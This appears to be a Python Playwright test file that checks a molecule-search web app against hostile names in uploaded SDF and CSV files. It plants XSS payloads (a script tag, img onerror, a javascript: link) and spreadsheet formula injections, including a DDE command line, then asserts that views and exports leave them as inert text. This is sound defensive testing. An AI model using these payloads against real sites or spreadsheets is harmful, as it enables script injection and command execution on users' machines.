"""Names and tags from files are somebody else's text: they show as text everywhere, and no program runs them."""

import csv
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import Arrive
from tests.browser.test_way import opened_report
from tests.browser.visitor import Visitor

pytestmark = pytest.mark.slow

SCRIPT = "<script>window.ran = 1; alert(1)</script>"
IMAGE = "<img src=x onerror='window.ran = 2; alert(2)'>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"click")'
MARKDOWN = ":red[**bold**] $x$ [link](javascript:alert(3))"
NAMES = (SCRIPT, IMAGE, FORMULA, MARKDOWN)
BLOCK = """{title}
  by hand

  3  2  0  0  0  0  0  0  0  0999 V2000
    0.0000    0.0000    0.0000 C   0  0
    1.5000    0.0000    0.0000 {atom}   0  0
    2.2000    1.2000    0.0000 O   0  0
  1  2  1  0
  2  3  1  0
M  END
>  <{tag}>
{value}

$$$$
"""


def hostile_sdf(path: Path) -> Path:
    """Write a file whose titles, tags and values are markup, scripts and formulas."""
    atoms = ("C", "N", "O", "S")
    text = "".join(
        BLOCK.format(title=name, atom=atom, tag=tag, value=value)
        for name, atom, tag, value in zip(NAMES, atoms, reversed(NAMES), (*NAMES[2:], *NAMES[:2]), strict=True)
    )
    path.write_text(text, encoding="utf-8")
    return path


def hostile_csv(path: Path) -> Path:
    """Write a table whose names and cells begin as formulas do."""
    rows = [("CCO", FORMULA, "+1+cmd|' /C calc'!A0"), ("CCCO", "@SUM(A1)", "-2+3"), ("CCCCO", SCRIPT, "\t=1+1")]
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([("smiles", "name", "=note"), *rows])
    return path


def injected(page: Page) -> list[str]:
    """Describe what a name has become where it was not left as text."""
    found = page.evaluate(
        """() => [window.ran === undefined ? '' : `ran ${window.ran}`,
            ...[...document.querySelectorAll('img[src="x"], [onerror], a[href^="javascript"], a[href*="example.org"]')]
                .map(box => box.outerHTML),
            ...[...document.scripts].filter(one => one.text.includes('window.ran')).map(one => one.outerHTML)]
            .filter(Boolean)"""
    )
    return [str(each) for each in found]


@pytest.fixture
def holder(arrive: Arrive, tmp_path: Path) -> Iterator[Visitor]:
    """A visitor who added the hostile SDF and searched it."""
    visitor = arrive()
    visitor.open("library")
    visitor.upload(hostile_sdf(tmp_path / "hostile.sdf"), "hostile")
    visitor.turn_to("Search")
    visitor.ask("an alcohol")
    yield visitor
    assert visitor.page.evaluate("window.ran") is None


def test_hostile_names_show_as_text_in_every_view(holder: Visitor) -> None:
    page = holder.page
    titles = {holder.title(rank) for rank in range(1, 5)}
    assert titles == set(NAMES)
    for view in ("Why", "3D", "Values", "Records", "Structure"):
        holder.choose(view)
        assert injected(page) == [] and holder.errors() == []
    for view in ("Table", "Map", "Grid"):
        holder.choose(view)
        assert injected(page) == [] and holder.errors() == []
    for rank in range(1, 5):
        holder.pick(rank)
    for place in ("Basket", "Library", "Concepts", "Search"):
        holder.turn_to(place)
        assert injected(page) == [] and holder.errors() == []


def test_hostile_names_are_text_in_the_report_and_inert_in_tables(
    holder: Visitor, browser: Browser, downloads: Path
) -> None:
    page = holder.page
    page.get_by_role("button", name="Export").click()
    files = {kind: holder.take(page.get_by_role("button", name=kind), downloads) for kind in ("Report", "Excel", "CSV")}
    asked: list[str] = []
    report = opened_report(browser, files["Report"], asked)
    shown = report.locator("figcaption b").all_inner_texts()
    assert {text.split(". ", 1)[1] for text in shown} == set(NAMES)
    assert injected(report) == []
    report.context.close()
    assert asked == [files["Report"].as_uri()]  # no dialog and no other address

    sheet = openpyxl.load_workbook(files["Excel"]).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {"f"} & {cell.data_type for cell in cells} == set()
    assert set(NAMES) <= {str(cell.value) for cell in cells}
    assert all(cell.hyperlink is None for cell in cells)
    with files["CSV"].open(encoding="utf-8-sig", newline="") as stream:
        written = [cell for row in csv.reader(stream) for cell in row]
    assert any(FORMULA in cell for cell in written)
    assert not [cell for cell in written if re.match(r"[=+@\t\r]|-(?!\d)", cell)]


def test_a_table_with_formulas_shows_as_text_and_leaves_inert(arrive: Arrive, tmp_path: Path, downloads: Path) -> None:
    visitor = arrive()
    page = visitor.page
    visitor.open("library")
    visitor.upload(hostile_csv(tmp_path / "formulas.csv"), "formulas")
    visitor.turn_to("Search")
    visitor.ask("an alcohol")
    assert {visitor.title(rank) for rank in range(1, 4)} == {FORMULA, "@SUM(A1)", SCRIPT}
    assert injected(page) == []
    visitor.press("Basket · 0")
    visitor.press("Put all 3 hits into the basket")
    visitor.turn_to("Basket")
    path = visitor.take(page.get_by_role("button", name="CSV"), downloads)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        written = [cell for row in csv.reader(stream) for cell in row]
    assert any(FORMULA in cell for cell in written)
    assert not [cell for cell in written if re.match(r"[=+@\t\r]|-(?!\d)", cell)]
    expect(page.get_by_text("3 molecules", exact=True)).to_be_visible()
